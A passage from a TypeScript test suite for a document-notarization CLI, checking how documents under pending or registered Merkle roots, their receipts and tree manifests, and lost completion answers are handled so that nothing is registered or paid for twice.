    expect(one.stdout).toMatch(new RegExp(`^hash +${root}$`, 'm'));
    const receipt = JSON.parse(readFileSync(join(receipts, `${NAMES[3]}.notarization.json`), 'utf8')) as ReceiptFields;
    expect(receipt.document.sha256).toBe(digests[NAMES[3]!]);
    expect(receipt.proof).toMatchObject({ root, leafIndex: 3, treeSize: COUNT });
    const verified = await bed.main(
      ['verify', bed.path(`dist/${NAMES[3]}`), '--receipt', join(receipts, `${NAMES[3]}.notarization.json`)],
      { env: { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'empty-')) } },
    );
    expect(verified.code, describeRun(verified)).toBe(0);

    // In a batch beside a new document: that one alone is paid for.
    const fresh = await bed.write('switch/fresh.txt', 'registered on its own\n');
    const batch = await bed.main([
      'register',
      bed.path(`dist/${NAMES[4]}`),
      bed.path('switch/fresh.txt'),
      '--output',
      'ndjson',
    ]);
    expect(batch.code, describeRun(batch)).toBe(0);
    const [under, own] = parseNdjson(batch.stdout);
    expect(under).toMatchObject({
      status: 'already-registered',
      hash: digests[NAMES[4]!],
      proof: { root, leafIndex: 4 },
    });
    expect(own).toMatchObject({ status: 'registered', hash: fresh });
    expect(bed.callsSince(mark).map((c) => c.route)).toEqual(['request', 'forfait']);
    expect(bed.requestedHashes().filter((h) => h === digests[NAMES[4]!])).toEqual([]);

    // --force registers it on its own, as it says.
    const forced = await bed.main(['register', bed.path(`dist/${NAMES[5]}`), '--force', '--json']);
    expect(forced.code, describeRun(forced)).toBe(0);
    expect(bed.callsSince(mark).map((c) => c.route)).toEqual(['request', 'forfait', 'request', 'forfait']);
  });

  it('documents under a pending root, registered on their own: the root is completed once, nothing requested again', async () => {
    const [a, b, c] = await Promise.all(
      ['a', 'b', 'c'].map((name) => bed.write(`pend-switch/${name}.txt`, `pending root, document ${name}\n`)),
    );
    const left = await bed.main(['register', '--aggregate', '--no-complete', '-r', bed.path('pend-switch'), '--json']);
    expect(left.code, describeRun(left)).toBe(0);
    const pendingRoot = parseResults(left.stdout)[0]!.proof!.root;
    const mark = bed.mark();

    // --no-complete: the root's session, as it stands; nothing sent.
    const stays = await bed.main(['register', '--no-complete', bed.path('pend-switch/a.txt'), '--quiet']);
    expect(stays.code, describeRun(stays)).toBe(0);
    expect(bed.callsSince(mark)).toEqual([]);
    expect(bed.pendingHashes()).toContain(pendingRoot);

    // Two of its documents in one batch: one forfait, the root's; each result its document's, with its proof.
    const receipts = bed.path('pend-switch-receipts');
    const batch = await bed.main([
      'register',
      bed.path('pend-switch/a.txt'),
      bed.path('pend-switch/b.txt'),
      '--receipt-dir',
      receipts,
      '--output',
      'ndjson',
    ]);
    expect(batch.code, describeRun(batch)).toBe(0);
    // NDJSON lines come as documents finish: in leaf order for the comparison.
    const results = parseNdjson(batch.stdout).sort((x, y) => x.proof!.leafIndex - y.proof!.leafIndex);
    expect(results).toMatchObject([
      { status: 'registered', hash: a, proof: { root: pendingRoot, leafIndex: 0, treeSize: 3 } },
      { status: 'registered', hash: b, proof: { root: pendingRoot, leafIndex: 1, treeSize: 3 } },
    ]);
    expect(bed.callsSince(mark).map((call) => [call.route, call.path.includes(pendingRoot)])).toEqual([
      ['forfait', true],
    ]);
    expect(bed.ledgerHashes()).toContain(pendingRoot);
    expect(bed.pendingHashes()).not.toContain(pendingRoot);
    // The root's manifest went to --receipt-dir (before it was paid for), as an aggregate run's does.
    expect(existsSync(join(receipts, `${pendingRoot}.tree.json`))).toBe(true);
    // Their receipts carry the proof to the root, and verify with an empty store.
    const verified = await bed.main(
      ['verify', bed.path('pend-switch/b.txt'), '--receipt', join(receipts, 'b.txt.notarization.json'), '--json'],
      { env: { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'empty-')) } },
    );
    expect(verified.code, describeRun(verified)).toBe(0);

    // The third now stands under a registered root: nothing sent.
    const third = await bed.main(['register', bed.path('pend-switch/c.txt')]);
    expect(third.code, describeRun(third)).toBe(0);
    expect(third.stderr).toContain(`${c} is already registered: leaf 2 under the Merkle root ${pendingRoot}`);
    expect(bed.callsSince(mark)).toHaveLength(1);
  });

  it('one document under a pending root, alone: the root is completed and the note says so', async () => {
    const x = await bed.write('pend-one/x.txt', 'pending root, alone x\n');
    await bed.write('pend-one/y.txt', 'pending root, alone y\n');
    const left = await bed.main(['register', '--aggregate', '--no-complete', '-r', bed.path('pend-one'), '--json']);
    expect(left.code, describeRun(left)).toBe(0);
    const pendingRoot = parseResults(left.stdout)[0]!.proof!.root;
    const mark = bed.mark();
    const one = await bed.main(['register', bed.path('pend-one/x.txt'), '-d', 'release notes', '--custody']);
    expect(one.code, describeRun(one)).toBe(0);
    expect(one.stderr).toContain(
      `the description, --custody are not used for the documents under a pending Merkle root (${pendingRoot} first)`,
    );
    expect(one.stderr).toContain(
      `${x} is registered: leaf 0 under the Merkle root ${pendingRoot}, whose pending registration this run completed`,
    );
    expect(one.stdout).toMatch(new RegExp(`^hash +${pendingRoot}$`, 'm'));
    expect(bed.callsSince(mark).map((call) => call.route)).toEqual(['forfait']);
  });

  it('a pending root whose manifest cannot be written is not completed: exit 2, nothing sent; --signed is said unused', async () => {
    const [m] = await writeDocs('pend-manifest', 'pending root, manifest blocked', ['m', 'n']);
    const left = await bed.main([
      'register',
      '--aggregate',
      '--no-complete',
      '-r',
      bed.path('pend-manifest'),
      '--json',
    ]);
    expect(left.code, describeRun(left)).toBe(0);
    const pendingRoot = parseResults(left.stdout)[0]!.proof!.root;
    const receipts = bed.path('pend-manifest-receipts');
    mkdirSync(join(receipts, `${pendingRoot}.tree.json`), { recursive: true });
    let mark = bed.mark();
    const blocked = await bed.main(['register', m!, '--receipt-dir', receipts, '--json']);
    expect(blocked.code, describeRun(blocked)).toBe(2);
    expect(jsonError(blocked.stderr)).toMatchObject({ code: 'receipt_exists' });
    expect(bed.callsSince(mark)).toEqual([]);
    rmSync(join(receipts, `${pendingRoot}.tree.json`), { recursive: true });
    mark = bed.mark();
    const signed = await bed.main(['register', m!, '--receipt-dir', receipts, '--signed', '--json']);
    expect(signed.code, describeRun(signed)).toBe(0);
    expect(signed.stderr).toContain(
      `--signed is not used for the documents under a pending Merkle root (${pendingRoot} first)`,
    );
    expect(bed.callsSince(mark).map((call) => call.route)).toEqual(['forfait']);
  });

  it('a document under a pending root with a session of its own: its own is completed, the root left pending', async () => {
    const own = await bed.write('pend-own/own.txt', 'pending root and own session\n');
    await bed.write('pend-own/other.txt', 'pending root, the other\n');
    expect((await bed.main(['register', '--no-complete', bed.path('pend-own/own.txt'), '--quiet'])).code).toBe(0);
    const left = await bed.main(['register', '--aggregate', '--no-complete', '-r', bed.path('pend-own'), '--json']);
    expect(left.code, describeRun(left)).toBe(0);
    const pendingRoot = parseResults(left.stdout)[0]!.proof!.root;
    const mark = bed.mark();
    // Its own session may be the one paid for (a checkout): it goes first, as before the tree.
    const run = await bed.main(['register', bed.path('pend-own/own.txt'), '--json']);
    expect(run.code, describeRun(run)).toBe(0);
    expect(bed.callsSince(mark).map((call) => [call.route, call.path.includes(own)])).toEqual([['forfait', true]]);
    expect(bed.pendingHashes()).toContain(pendingRoot);
    expect((await bed.main(['pending', 'drop', pendingRoot])).code).toBe(0);
  });

  it('--force registers a document under a pending root on its own', async () => {
    const f = await bed.write('pend-force/f.txt', 'pending root, forced\n');
    const left = await bed.main(['register', '--aggregate', '--no-complete', '-r', bed.path('pend-force'), '--json']);
    expect(left.code, describeRun(left)).toBe(0);
    const pendingRoot = parseResults(left.stdout)[0]!.proof!.root;
    const mark = bed.mark();
    const forced = await bed.main(['register', bed.path('pend-force/f.txt'), '--force', '--json']);
    expect(forced.code, describeRun(forced)).toBe(0);
    expect(bed.callsSince(mark).map((call) => [call.route, call.path.includes(f) || call.body.includes(f)])).toEqual([
      ['request', true],
      ['forfait', true],
    ]);
    expect(bed.pendingHashes()).toContain(pendingRoot);
    expect((await bed.main(['pending', 'drop', pendingRoot])).code).toBe(0);
  });

  it("a fresh store registering documents one by one with the aggregate's receipts asks about their root once, pays nothing", async () => {
    const receipts = mkdtempSync(join(bed.root, 'cold-receipts-'));
    cpSync(bed.path('receipts'), receipts, { recursive: true });
    const before = readFileSync(join(receipts, `${NAMES[3]}.notarization.json`), 'utf8');
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'cold-store-')) };
    const mark = bed.mark();
    const docs = [3, 4].map((i) => bed.path(`dist/${NAMES[i]}`));
    const run = await bed.main(['register', ...docs, '--receipt-dir', receipts, '--output', 'ndjson'], { env });
    expect(run.code, describeRun(run)).toBe(0);
    const results = parseNdjson(run.stdout).sort((x, y) => x.proof!.leafIndex - y.proof!.leafIndex);
    expect(results).toMatchObject([
      { status: 'already-registered', hash: digests[NAMES[3]!], record: null, proof: { root, leafIndex: 3 } },
      { status: 'already-registered', hash: digests[NAMES[4]!], record: null, proof: { root, leafIndex: 4 } },
    ]);
    // One ask, the root's request step, answered 409; the receipts with their proofs are left as they were.
    expect(bed.callsSince(mark).map((call) => [call.route, call.status])).toEqual([
      ['login', 200],
      ['request', 409],
    ]);
    expect(readFileSync(join(receipts, `${NAMES[3]}.notarization.json`), 'utf8')).toBe(before);
    // Each result names the receipt that stands; no warning of receipts not written.
    expect(results[0]!.receipt).toBe(join(receipts, `${NAMES[3]}.notarization.json`));
    expect(run.stderr).not.toContain('no receipt written');
    // Alone: the note says where the document is.
    const one = await bed.main(['register', bed.path(`dist/${NAMES[5]}`), '--receipt-dir', receipts], { env });
    expect(one.code, describeRun(one)).toBe(0);
    expect(one.stderr).toContain(`${digests[NAMES[5]!]} is leaf 5 under the Merkle root ${root}`);
    // --force registers it on its own, as it says.
    const forced = await bed.main(['register', bed.path(`dist/${NAMES[6]}`), '--receipt-dir', receipts, '--force'], {
      env,
    });
    expect(forced.code, describeRun(forced)).toBe(0);
    expect(bed.callsSince(mark).map((call) => call.route)).toEqual([
      'login',
      'request',
      'request',
      'request',
      'forfait',
    ]);
  });

  it('a completion whose answer was lost: the run says where the tree is, without which a re-run pays a new root', async () => {
    const [a, b] = await writeDocs('answer-lost-warning', 'completion answer lost, warned', ['a', 'b']);
    const receipts = bed.path('answer-lost-warning-receipts');
    const store = mkdtempSync(join(bed.root, 'lost-w-'));
    bed.sandbox.addFaults(parseFaults('forfait:drop-after*1'));
    const lost = await bed.main(['register', '--aggregate', a!, b!, '--receipt-dir', receipts], {
      env: { NOTARIZE_CONFIG_DIR: store },
    });
    expect(lost.code, describeRun(lost)).toBe(4);
    const [manifest] = readdirSync(receipts);
    const lostRoot = manifest!.slice(0, 64);
    const warnings = lost.stderr.split('\n').filter((line) => line.includes('may have been registered and paid for'));
    const tree = `its tree is in this store (${storePaths(store, bed.url).service}) and in ${join(receipts, manifest!)}`;
    expect(warnings).toEqual([
      `warning: the Merkle root ${lostRoot} may have been registered and paid for, its answer lost; the same command ` +
        `run again with this store sends its session again; ${tree}: a run with either of them never pays for these ` +
        'documents twice (on a new runner, restore the receipt folder: docs/ci.md); a run with neither cannot find ' +
        'this root, and registers the documents again under a new one',
    ]);
    // An answer that could not be read: only `complete` sends it again; a run after it says so too, naming the
    // manifest the first wrote.
    const [u] = await writeDocs('answer-unread', 'completion answer unreadable', ['u']);
    const unreadReceipts = bed.path('answer-unread-receipts');
    const unreadStore = mkdtempSync(join(bed.root, 'lost-u-'));
    bed.sandbox.addFaults(parseFaults('forfait:truncated*1'));
    for (const expected of [5, 5]) {
      const unread = await bed.main(['register', '--aggregate', u!, '--receipt-dir', unreadReceipts], {
        env: { NOTARIZE_CONFIG_DIR: unreadStore },
      });
      expect(unread.code, describeRun(unread)).toBe(expected);
      const [unreadManifest] = readdirSync(unreadReceipts);
      expect(unread.stderr).toContain(
        `its answer lost; \`notarize complete ${unreadManifest!.slice(0, 64)}\` with this store sends its session ` +
          `again (answered 409 if it went through); its tree is in this store (${storePaths(unreadStore, bed.url).service}) ` +
          `and in ${join(unreadReceipts, unreadManifest!)}: `,
      );
    }
    // Without --receipt-dir only the store has it; and a failure that proves nothing was taken says nothing of it.
    const [c] = await writeDocs('answer-lost-no-dir', 'completion answer lost, no receipts', ['c']);
    bed.sandbox.addFaults(parseFaults('forfait:drop-after*1'));
    const alone = await bed.main(['register', '--aggregate', c!], {
      env: { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'lost-x-')) },
    });
    expect(alone.code, describeRun(alone)).toBe(4);
    expect(alone.stderr).toMatch(
      /sends its session again; its tree is only in this store \(.+\): keep it; a run with neither/,
    );
    const [d] = await writeDocs('answer-refused-503', 'completion turned away', ['d']);
    bed.sandbox.addFaults(parseFaults('forfait:status=503@1*1'));
    const refused = await bed.main(['register', '--aggregate', d!, '--retries', '0'], {
      env: { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'lost-y-')) },
    });
    expect(refused.code, describeRun(refused)).toBe(4);
    expect(refused.stderr).not.toContain('may have been registered');
  });

  it('a root dropped by hand after its answer was lost: its documents one by one ask about it, and pay nothing twice (r103)', async () => {
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'dropped-root-')) };
    const [a, b, c] = await writeDocs('dropped-root', 'root dropped by hand', ['a', 'b', 'c']);
    bed.sandbox.addFaults(parseFaults('forfait:drop-after*1'));
    const lost = await bed.main(['register', '--aggregate', a!, b!, c!, '--json'], { env });
    expect(lost.code, describeRun(lost)).toBe(4);
    const [root] = pendingHashes(env.NOTARIZE_CONFIG_DIR, bed.url);
    expect((await bed.main(['pending', 'drop', root!], { env })).code).toBe(0);
    // Two documents of the tree one by one: both already-registered under the root; what was sent besides a login.
    const registerTwo = async (docs: string[]) => {
      const mark = bed.mark();
      const run = await bed.main(['register', ...docs, '--json'], { env });
      expect(run.code, describeRun(run)).toBe(0);
      expect(parseResults(run.stdout).map((r) => [r.status, r.proof?.root])).toEqual([
        ['already-registered', root],
        ['already-registered', root],
      ]);
      return bed.callsSince(mark).filter((call) => call.route !== 'login');
    };
    // One question about the root (a 409: the service has it), and no forfait: nothing paid again.
    const calls = await registerTwo([a!, b!]);
    expect(calls.map((call) => [call.route, call.status])).toEqual([['request', 409]]);
    expect(calls[0]!.body).toContain(root);
    // That 409 is kept (r104: asked again on every run): the root is confirmed, nothing is sent again.
    expect(await registerTwo([a!, c!])).toEqual([]);
    // A root the service never completed (--no-complete, then dropped): asked about, then the document paid alone.
    const env2 = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'dropped-root-unpaid-')) };
    const [d, e] = await writeDocs('dropped-root-unpaid', 'root dropped unpaid', ['d', 'e']);
    expect((await bed.main(['register', '--aggregate', d!, e!, '--no-complete'], { env: env2 })).code).toBe(0);
    const [unpaid] = pendingHashes(env2.NOTARIZE_CONFIG_DIR, bed.url);
    expect((await bed.main(['pending', 'drop', unpaid!], { env: env2 })).code).toBe(0);
    const mark2 = bed.mark();
    const paid = await bed.main(['register', d!, '--output', 'ndjson'], { env: env2 });
    expect(paid.code, describeRun(paid)).toBe(0);
    expect(parseNdjson(paid.stdout)).toMatchObject([{ status: 'registered' }]);
    expect(parseNdjson(paid.stdout)[0]!.proof).toBeUndefined();
    const routes = bed.callsSince(mark2).filter((call) => call.route !== 'login');
    expect(routes.map((call) => [call.route, call.status])).toEqual([
      ['request', 200],
      ['request', 200],
      ['forfait', 200],
    ]);
    expect(routes[0]!.body).toContain(unpaid);
  });

  it("a document's own session dropped by hand after its answer was lost: --aggregate asks, and pays nothing twice (r103)", async () => {
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'dropped-own-')) };
    const [a, b, c] = await writeDocs('dropped-own', 'own session dropped', ['a', 'b', 'c']);
    const [ha, hb, hc] = [a!, b!, c!].map((path) => createHash('sha256').update(readFileSync(path)).digest('hex'));
    bed.sandbox.addFaults(parseFaults('forfait:drop-after*1'));
    expect((await bed.main(['register', a!], { env })).code).toBe(4);
    // c's session never went to a completion: dropped, the service does not have it.
    expect((await bed.main(['register', c!, '--no-complete'], { env })).code).toBe(0);
    for (const hash of [ha, hc]) expect((await bed.main(['pending', 'drop', hash!], { env })).code).toBe(0);
    const mark = bed.mark();
    const receipts = bed.path('dropped-own-receipts');
    const run = await bed.main(['register', '--aggregate', a!, b!, c!, '--receipt-dir', receipts, '--json'], { env });
    expect(run.code, describeRun(run)).toBe(0);
    // a has no receipt there, nor a record here to write one from: said, as this run's own ask (r104).
    expect(run.stderr).toContain(
      `warning: no receipt written for ${ha}: asked about now (its own session was dropped), the service answered 409, and this store has no record to write one from`,
    );
    const results = parseResults(run.stdout);
    const root = results[1]!.proof?.root;
    expect(results.map((r) => [r.hash, r.status, r.proof?.root])).toEqual([
      [ha, 'already-registered', undefined],
      [hb, 'registered', root],
      [hc, 'registered', root],
    ]);
    expect(results[1]!.proof?.treeSize).toBe(2);
    // a and c asked about (409, then a session never kept), then one root paid: no forfait for a alone.
    const calls = bed.callsSince(mark).filter((call) => call.route !== 'login');
    expect(calls.map((call) => [call.route, call.status])).toEqual([
      ['request', 409],
      ['request', 200],
      ['request', 200],
      ['forfait', 200],
    ]);
    expect(
      [ha, hc, root, root].map((hash, i) => calls[i]!.body.includes(hash!) || calls[i]!.path.includes(hash!)),
    ).toEqual([true, true, true, true]);
    // The 409 is kept: a run again sends nothing.
    const again = bed.mark();
    const rerun = await bed.main(['register', '--aggregate', a!, b!, c!, '--receipt-dir', receipts, '--json'], { env });
    expect(rerun.code, describeRun(rerun)).toBe(0);
    expect(countStatuses(parseResults(rerun.stdout))).toEqual({ 'already-registered': 3 });
    expect(bed.callsSince(again).filter((call) => call.route !== 'login')).toEqual([]);
  });

  it('a fresh store registering documents one by one finds their root in a manifest when the aggregate wrote no receipts', async () => {
    const [a, b] = await writeDocs('lost-answer', 'completion answer lost', ['a', 'b']);
    const receipts = bed.path('lost-answer-receipts');
    bed.sandbox.addFaults(parseFaults('forfait:drop-after*1'));
    const lost = await bed.main(['register', '--aggregate', a!, b!, '--receipt-dir', receipts, '--json'], {
      env: { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'lost-a-')) },
    });
    expect(lost.code, describeRun(lost)).toBe(4);
    // Only the manifest: written before the completion was sent, whose answer never came.
    const [manifest] = readdirSync(receipts);
    const lostRoot = manifest!.slice(0, 64);
    const mark = bed.mark();
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'lost-b-')) };
    const run = await bed.main(['register', a!, b!, '--receipt-dir', receipts, '--output', 'ndjson'], { env });
    expect(run.code, describeRun(run)).toBe(0);
    const results = parseNdjson(run.stdout).sort((x, y) => x.proof!.leafIndex - y.proof!.leafIndex);
    expect(results).toMatchObject([
      { status: 'already-registered', record: null, proof: { root: lostRoot, leafIndex: 0 } },
      { status: 'already-registered', record: null, proof: { root: lostRoot, leafIndex: 1 } },
    ]);
    expect(bed.callsSince(mark).map((call) => [call.route, call.status])).toEqual([
      ['login', 200],
      ['request', 409],
    ]);
  });

  it('a receipt naming another service does not keep a manifest of the same root from being asked about', async () => {
    const receipts = mkdtempSync(join(bed.root, 'other-url-receipts-'));
    cpSync(bed.path('receipts'), receipts, { recursive: true });
    // Under another name (its own place would refuse the run: another service's receipt is kept as evidence).
    const own = join(receipts, `${NAMES[7]}.notarization.json`);
    const file = join(receipts, `elsewhere-${NAMES[7]}.notarization.json`);
    const elsewhere = 'http://127.0.0.1:1';
    writeFileSync(file, readFileSync(own, 'utf8').replaceAll(bed.url, elsewhere));
    rmSync(own);
    expect(readFileSync(file, 'utf8')).toContain(`"verificationUrl": "${elsewhere}/verification/${root}"`);
    const mark = bed.mark();
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'other-url-store-')) };
    const run = await bed.main(['register', bed.path(`dist/${NAMES[7]}`), '--receipt-dir', receipts, '--json'], {
      env,
    });
    expect(run.code, describeRun(run)).toBe(0);
    expect(run.stderr).toContain(`${digests[NAMES[7]!]} is leaf 7 under the Merkle root ${root}`);
    expect(bed.callsSince(mark).map((call) => [call.route, call.status])).toEqual([
      ['login', 200],
      ['request', 409],
    ]);
  });

  it("a store with the root's record but not its tree: the receipt is written from that record, nothing asked", async () => {
    const store = mkdtempSync(join(bed.root, 'record-no-tree-'));
    cpSync(bed.storeDir, store, { recursive: true });
    rmSync(join(storePaths(store, bed.url).service, 'trees', `${root}.json`));
    const receipts = mkdtempSync(join(bed.root, 'record-no-tree-receipts-'));
    cpSync(bed.path('receipts'), receipts, { recursive: true });
    const mark = bed.mark();
    const run = await bed.main(['register', bed.path(`dist/${NAMES[8]}`), '--receipt-dir', receipts, '--json'], {
      env: { NOTARIZE_CONFIG_DIR: store },
    });
    expect(run.code, describeRun(run)).toBe(0);
    expect(run.stderr).toContain(`${digests[NAMES[8]!]} is already registered: leaf 8 under the Merkle root ${root}`);
    expect(bed.callsSince(mark)).toEqual([]);
    expect(receiptOf(NAMES[8]!, receipts).proof).toMatchObject({ root, leafIndex: 8 });
  });

  it('manifests are read by a run of any size (up to 10,000 leaves); too many unknown roots are listed, and stop', async () => {
    // A root the service has, of 80 documents; only its manifest kept (the receipts lost).
    const docs = await writeDocs(
      'bound',
      'manifest bound',
      Array.from({ length: 80 }, (_, i) => `d${i}`),
    );
    const kept = mkdtempSync(join(bed.root, 'bound-rc-'));
    const whole = await bed.main(
      ['register', '--aggregate', '-r', bed.path('bound'), '--receipt-dir', kept, '--quiet'],
      {
        env: { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'bound-a-')) },
      },
    );
    expect(whole.code, describeRun(whole)).toBe(0);
    for (const name of readdirSync(kept)) if (!name.endsWith('.tree.json')) rmSync(join(kept, name));
    // One document alone, its receipt lost: the manifest (80 leaves) is read all the same, its root
    // asked about, nothing paid (it was read only up to four leaves per document, and paid again).
    let mark = bed.mark();
    const alone = await bed.main(['register', docs[0]!, '--receipt-dir', kept, '--json'], {
      env: { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'bound-b-')) },
    });
    expect(alone.code, describeRun(alone)).toBe(0);
    expect(bed.callsSince(mark).map((call) => [call.route, call.status])).toEqual([
      ['login', 200],
      ['request', 409],
    ]);
    expect(JSON.parse(alone.stdout)).toMatchObject({ status: 'already-registered' });
    // --aggregate over two of them likewise: under the root the service has, no new tree.
    mark = bed.mark();
    const two = await onStore(mkdtempSync(join(bed.root, 'bound-d-')), kept, docs.slice(1, 3));
    expect(two.run.code, describeRun(two.run)).toBe(0);
    expect(two.calls).toEqual(['login:200', 'request:409']);
    // All 80: read, one ask, nothing paid.
    mark = bed.mark();
    const all = await bed.main(['register', '-r', bed.path('bound'), '--receipt-dir', kept, '--output', 'ndjson'], {
      env: { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'bound-c-')) },
    });
    expect(all.code, describeRun(all)).toBe(0);
    expect(countStatuses(parseNdjson(all.stdout))).toEqual({ 'already-registered': 80 });
    expect(bed.callsSince(mark).map((call) => [call.route, call.status])).toEqual([
      ['login', 200],
      ['request', 409],
    ]);

    // 17 manifests of roots the service does not have (left pending by other stores), all listing one document.
    const [lone] = await writeDocs('stale', 'stale manifests', ['lone']);
    const stale = mkdtempSync(join(bed.root, 'stale-rc-'));
    for (let i = 0; i < 17; i++) {
      const [other] = await writeDocs(`stale-${i}`, 'beside', [`other${i}`]);
      const run = await bed.main(
        ['register', '--aggregate', '--no-complete', lone!, other!, '--receipt-dir', stale, '--quiet'],
        {
          env: { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'stale-store-')) },
        },
      );
      expect(run.code, describeRun(run)).toBe(0);
    }
    mark = bed.mark();
    const stopped = await bed.main(['register', lone!, '--receipt-dir', stale, '--json'], {
      env: { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'stale-fresh-')) },
    });
    expect(stopped.code, describeRun(stopped)).toBe(1);
    expect(jsonError(stopped.stderr)).toMatchObject({ code: 'manifests_unasked' });
    expect(stopped.stderr).toContain('the service does not have the roots of these 16 tree manifests');
    expect(bed.callsSince(mark).filter((call) => call.route === 'request')).toHaveLength(16);
    expect(bed.callsSince(mark).filter((call) => call.route === 'forfait')).toEqual([]);
  });

  it('a manifest of a root never paid (its run failed at forfait, its store lost): re-runs say it proves nothing', async () => {
    const docs = await writeDocs('never-paid', 'never paid', ['a', 'b']);
    const receipts = bed.path('never-paid-receipts');
    bed.sandbox.addFaults(parseFaults('forfait:status=500*1'));
    const failed = await onStore(freshStore(), receipts, docs, ['--retries', '0']);
    expect(failed.run.code, describeRun(failed.run)).toBe(4);
    const [stale] = readdirSync(receipts).filter((name) => name.endsWith('.tree.json'));
    const said =
      'the service does not have the root of this tree manifest in --receipt-dir: unless a run elsewhere still ' +
      'completes it, the manifest proves nothing, and `verify` over that folder reports it unknown (move it aside, ' +
      `or leave it out with --exclude): ${join(receipts, stale!)}`;
    // Per-document, on a fresh store: its root asked about (the service has not got it), a paid on its own.
    const mark = bed.mark();
    const alone = await bed.main(['register', docs[0]!, '--receipt-dir', receipts, '--json'], {
      env: { NOTARIZE_CONFIG_DIR: freshStore() },
    });
    expect(alone.code, describeRun(alone)).toBe(0);
    expect(bed.callsSince(mark).map((c) => `${c.route}:${c.status}`)).toEqual([
      'login:200',
      'request:200',
      'request:200',
      'forfait:200',
    ]);
    expect(alone.stderr).toContain(said);
    // --aggregate, on a fresh store: the same, b in a new tree; said once.
    const again = await onStore(freshStore(), receipts, docs);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.run.stderr.split(said)).toHaveLength(2);
  });

  it('a receipt whose root the service does not have: the document is registered on its own, its receipt replaced', async () => {
    const sha256 = await bed.write('stale-root/doc.txt', 'a receipt of a root never registered\n');
    const salt = Buffer.alloc(32, 7);
    const staleRoot = leafHash(hex(sha256), salt).toString('hex');
    const receipts = mkdtempSync(join(bed.root, 'stale-receipts-'));
    const text = receiptText({
      document: { name: 'doc.txt', sha256, size: null },
      recordJson: JSON.stringify({ hash: staleRoot }),
      baseUrl: bed.url,
      registeredAt: '2026-01-01T00:00:00.000Z',
      proof: {
        type: 'rfc9162-sha256-salted-leaf',
        leafSalt: salt.toString('hex'),
        leafIndex: 0,
        treeSize: 1,
        path: [],
        root: staleRoot,
      },
    });
    writeFileSync(join(receipts, 'doc.txt.notarization.json'), text);
    const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, 'stale-store-')) };
    const mark = bed.mark();
    const run = await bed.main(['register', bed.path('stale-root/doc.txt'), '--receipt-dir', receipts, '--json'], {
      env,
    });
    expect(run.code, describeRun(run)).toBe(0);
    // Asked about (a session in answer: dropped unsaved), then the document on its own.
    expect(
      bed.callsSince(mark).map((call) => [call.route, call.path.includes(staleRoot) || call.body.includes(staleRoot)]),
    ).toEqual([
      ['login', false],
      ['request', true],
      ['request', false],
      ['forfait', false],
    ]);
    expect(JSON.parse(readFileSync(join(receipts, 'doc.txt.notarization.json'), 'utf8'))).toMatchObject({
      document: { sha256 },
      proof: null,
    });
  });

  it('a receipt of a document on its own, where a manifest puts it under a registered root: never replaced, not named', async () => {
    // r89: 9504888 passed such a receipt over (it claims the document on its own, the root was what
    // was confirmed), then wrote the root's receipt over it from another receipt's record: the
    // record of a paid registration, which the service sends once, was lost. r90: naming it instead
    // names a registration nobody confirmed (it may be forged): it is left as it is, said so.
    const { docs, receipts: treeReceipts, root } = await registeredTree('both-ways', 'both ways', ['a', 'b']);
    const receipts = bed.path('both-ways-own');
    const own = await bed.main(['register', docs[0]!, '--receipt-dir', receipts, '--quiet'], {
      env: { NOTARIZE_CONFIG_DIR: freshStore() },
    });
    expect(own.code, describeRun(own)).toBe(0);
    const ownReceipt = join(receipts, 'a.txt.notarization.json');
    const before = readFileSync(ownReceipt, 'utf8');
    expect(JSON.parse(before)).toMatchObject({ proof: null });
    for (const name of ['b.txt.notarization.json', `${root}.tree.json`]) {
      cpSync(join(treeReceipts, name), join(receipts, name));
    }
    await expectOwnReceiptLeft(docs[0]!, receipts, root, freshStore, false);
  });

  it("a receipt of a document on its own, where this store's ledger has it under a root: never replaced, not named (r91)", async () => {
    // r91: the same as above, but the root's record in this store's ledger: the root's receipt was written
    // over the document's own, exit 0, no word (the write replaced any receipt of the same digest).
    const [a, b] = await writeDocs('ledger-root', 'own, and under a root in the ledger', ['a', 'b']);
    const receipts = bed.path('ledger-root-own');
    const own = await bed.main(['register', a!, '--receipt-dir', receipts, '--quiet'], {
      env: { NOTARIZE_CONFIG_DIR: freshStore() },
    });
    expect(own.code, describeRun(own)).toBe(0);
    const store = freshStore();
    const tree = await onStore(store, bed.path('ledger-root-tree'), [a!, b!]);
    expect(tree.run.code, describeRun(tree.run)).toBe(0);
    const root = parseResults(tree.run.stdout)[0]!.proof!.root;
    await expectOwnReceiptLeft(a!, receipts, root, () => store, true);
  });

  /**
   * `register doc` and `register --aggregate doc`, each on `store()`, with the receipt of `doc` registered
   * on its own in `receipts` where the run confirms it under `root`: nothing paid, the receipt left as it
   * is, said so, and named by no result; then, moved aside, the same command writes the root's receipt
   * there (`recorded`: the store has the root's record, and the warning says so).
   */
  async function expectOwnReceiptLeft(
    doc: string,
    receipts: string,
    root: string,
    store: () => string,
    recorded: boolean,
  ) {
    const ownReceipt = join(receipts, `${basename(doc)}.notarization.json`);
    const before = readFileSync(ownReceipt, 'utf8');
    for (const aggregate of [false, true]) {
      const register = () =>
        bed.main(
          ['register', ...(aggregate ? ['--aggregate'] : []), doc, '--receipt-dir', receipts, '--output', 'ndjson'],
          { env: { NOTARIZE_CONFIG_DIR: store() } },
        );
      const mark = bed.mark();
      const run = await register();
      expect(run.code, describeRun(run)).toBe(0);
      expect(bed.callsSince(mark).filter((c) => c.route === 'forfait')).toEqual([]);
